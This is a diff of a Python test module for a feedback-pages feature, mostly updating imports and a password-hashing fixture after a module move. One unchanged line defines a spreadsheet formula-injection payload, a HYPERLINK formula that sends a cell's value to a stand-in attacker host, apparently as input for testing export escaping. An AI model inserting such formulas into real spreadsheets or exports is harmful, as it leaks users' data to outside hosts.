@@ -21,10 +21,10 @@ from argon2 import PasswordHasher
 from sqlalchemy import Engine, func, select
 from sqlalchemy.orm import Session
 
-import partnermon.security
-from partnermon import partners
+import partnermon.accounts.security
 from partnermon.feedback import links, staff
 from partnermon.models import Base, FeedbackRequest, FeedbackResponse, OutboxEmail
+from partnermon.partners import service as partners
 from tests.conftest import text_of
 from tests.factories import Cast
 
@@ -35,7 +35,7 @@ EVIL = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
 @pytest.fixture(autouse=True)
 def quick_password_hashing(monkeypatch: pytest.MonkeyPatch) -> None:
     # These tests are about feedback pages, not hashing: four cast passwords per test stay cheap.
-    monkeypatch.setattr(partnermon.security, "_hasher", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
+    monkeypatch.setattr(partnermon.accounts.security, "_hasher", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
 
 
 @pytest.fixture
